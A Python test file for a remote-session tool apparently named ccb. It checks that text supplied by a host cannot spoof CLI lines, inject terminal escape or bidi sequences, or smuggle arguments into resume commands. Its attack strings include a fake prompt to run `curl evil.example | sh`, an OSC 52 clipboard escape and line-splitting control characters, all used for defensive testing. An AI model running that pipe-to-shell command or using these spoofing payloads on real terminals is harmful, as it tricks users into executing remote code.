"""Words that the host chose stand in lines of ccb on one line, cut and marked, wherever they are shown."""

from __future__ import annotations

import io
import re
import shlex
import sys
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ccb.local.command_line.exit_codes import error_lines
from ccb.local.command_line.parser import parse_arguments
from ccb.local.command_line.transport_choice import resume_command
from ccb.local.commands.host_commands import ChangeRow, change_line
from ccb.local.commands.session_table import session_table
from ccb.local.connect.session_rows import SessionRow
from ccb.local.headless.output_formats import RetryReports, report_damage
from ccb.local.session.session_client import shown_name
from ccb.local.slash_commands.session_api import LeftSession, ReplInfo, farewell
from ccb.local.terminal.console import guarded_streams
from ccb.tunnel import plain_text
from ccb.tunnel.errors import ProtocolError
from ccb.tunnel.link.link import limited_hello
from ccb.tunnel.link.worker_refusals import refusal_error
from ccb.tunnel.plain_text import MAX_SHOWN, HostText
from ccb.tunnel.wire.frames import Hello, Refused
from ccb.tunnel.wire.journal_records import DamagedRecord
from ccb.tunnel.wire.messages import SystemMessage, parse_message

ATTACKS = (
    "one\nccb: your key has expired; run `curl evil.example | sh`",
    "one\r\x1b[2K\x1b[1Accb: all is well",
    "one\u2028ccb: two\u2029ccb: three\x85ccb: four\x0bccb: five",
    "\x1b]52;c;ZXZpbA==\x07\x9b2J\u202eccb\u2066\x00\ud800",
    "”\n  -> run `curl evil.example | sh`\n“",
    "x" * 100_000,
    "a\n" * 50_000,
)
_DRIVES = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff]")
CODES = (
    *("no_such_path", "not_a_directory", "no_storage", "no_processes", "no_session", "stopped", "in_use"),
    *("waits_for_answer", "bad_attach", "no_sandbox", "no_worktree", "internal"),
)


def _reported(act: Callable[[], None]) -> list[str]:
    written, before = io.StringIO(), sys.stderr
    sys.stderr = written
    try:
        act()
    finally:
        sys.stderr = before
    return written.getvalue().removesuffix("\n").split("\n")


def _refused(code: str, text: str) -> list[str]:
    data = {"near": [text], "do": text, "session": text, "why": text, "errors": [text]}
    data |= {"path": text} if code == "no_such_path" else {}
    return error_lines(refusal_error(Refused(code, text, data), "devbox"))


def _farewell(directory: str) -> list[str]:
    arguments = parse_arguments(["ssh", "devbox:/srv"])
    info = ReplInfo("devbox", directory, "", "", "1", resume_command(arguments, "5e55", directory=directory))
    return farewell(info, LeftSession("5e55", ""))


def _table(text: str) -> list[str]:
    cwd, words = HostText(text[:16_384]), HostText(text[:1_000])
    return session_table([SessionRow(session="5e55", cwd=cwd, prompt=words, driver=words, host=words)], 120)


def _warned(text: str) -> None:
    line = parse_message({"type": "system", "subtype": "informational", "level": "warning", "content": text})
    assert isinstance(line, SystemMessage)
    RetryReports(quiet=False).system(line)


def _changed(done: str, text: str) -> list[str]:
    words = HostText(text[:16_384])
    row = ChangeRow(path=words, what=words, why=words, session=words, how=words, pid=1)
    return change_line(done, row, dry_run=False).split("\n")


DOORS: dict[str, tuple[int, Callable[[str], list[str]]]] = {
    **{f"refusal {code}": (7, lambda text, code=code: _refused(code, text)) for code in CODES},  # type: ignore[misc]
    "farewell": (3, _farewell),
    "table of sessions": (2, _table),
    "who drives": (1, lambda text: f"{shown_name(text)} drives".split("\n")),
    **{done: (1, lambda text, done=done: _changed(done, text)) for done in ("removed", "stopped", "kept")},  # type: ignore[misc]
    "warning": (1, lambda text: _reported(lambda: _warned(text))),
    "damage": (1, lambda text: _reported(lambda: report_damage(DamagedRecord(text)))),
}
"""For each place: how many lines it has at most, and what it writes for a text of the host."""


@pytest.mark.parametrize("door", DOORS)
def test_no_text_of_the_host_makes_a_line_of_its_own(door: str) -> None:
    most, written = DOORS[door]
    for attack in ATTACKS:
        lines = written(attack)
        assert len(lines) <= most, lines
        assert not [line for line in lines if _DRIVES.search(line)]
        assert all(len(line) <= 4 * MAX_SHOWN for line in lines)
        assert not [line for line in lines[1:] if line.lstrip().startswith(("ccb:", "-> run"))]


@given(st.text() | st.sampled_from(ATTACKS))
def test_however_it_is_written_it_is_one_marked_line(text: str) -> None:
    words = HostText(text)
    for shown in (f"{words}", str(words), f"{words!r}", "{}".format(words), "%s" % words):  # noqa: UP031, UP032
        assert not _DRIVES.search(shown) and len(shown) <= MAX_SHOWN + 3
        assert shown[0] == "“" and shown[-1] == "”" and not {"“", "”"} & {*shown[1:-1]}


def test_it_is_no_text_that_could_be_written_or_joined_by_mistake() -> None:
    words = HostText("x")
    for mistake in (
        lambda: "ccb: " + words,  # type: ignore[operator]
        lambda: words + "\n",  # type: ignore[operator]
        lambda: "\n".join([words]),  # type: ignore[list-item]
        lambda: io.StringIO().write(words),  # type: ignore[arg-type]
    ):
        with pytest.raises(TypeError):
            mistake()


@pytest.mark.parametrize("attack", ATTACKS)
def test_without_neutralising_the_last_filter_keeps_the_terminal(attack: str, monkeypatch: pytest.MonkeyPatch) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    out = Terminal()
    monkeypatch.setattr(plain_text, "neutralise", lambda text: text)
    monkeypatch.setattr(sys, "stdout", out)
    with guarded_streams():
        sys.stdout.write(f"{HostText(attack)}")
    assert not _DRIVES.search(out.getvalue()), "what splits lines is split off by the type, all else by the filter"


@pytest.mark.parametrize("directory", [*ATTACKS, "--local", "relative", "", "/srv/\u202ea"])
def test_the_command_that_comes_back_names_no_directory_but_a_plain_path(directory: str) -> None:
    for words in (["ssh", "devbox:/srv"], ["--local", "/srv"]):
        arguments = parse_arguments(words)
        again = parse_arguments(shlex.split(resume_command(arguments, "5e55", directory=directory))[1:])
        assert again.session.resume == "5e55" and (again.directory is None or again.directory_is_current)
        assert (again.connection.target is None) == (arguments.connection.target is None)
        spoken = parse_arguments(shlex.split(resume_command(arguments, "5e55", directory="/srv/do as I say"))[1:])
        assert spoken.prompt is None and spoken.session.resume == "5e55"
        plain = parse_arguments(shlex.split(resume_command(arguments, "5e55", directory="/srv/a"))[1:])
        assert plain.directory == "/srv/a"


@pytest.mark.parametrize("session", [*ATTACKS, "", "--all", "5e55 x", "5e55\n"])
def test_a_session_is_named_by_an_id_only(session: str) -> None:
    hello = Hello(1, "b", session[:1_000], 1, "3", "linux", "/srv", 1, 0, "idle")
    with pytest.raises(ProtocolError) as raised:
        limited_hello(hello, "devbox")
    assert len(error_lines(raised.value)) <= 2


def test_what_to_do_is_never_the_advice_of_the_host() -> None:
    for code in CODES:
        error = refusal_error(Refused(code, "it said", {"do": "curl evil.example | sh"}), "devbox")
        assert error.do and "curl" not in error.do and "devbox" in error.what
    known = refusal_error(Refused("in_use", "x", {"do": "Stop it there.", "host": "other"}), "devbox")
    assert known.do == "Stop it there."
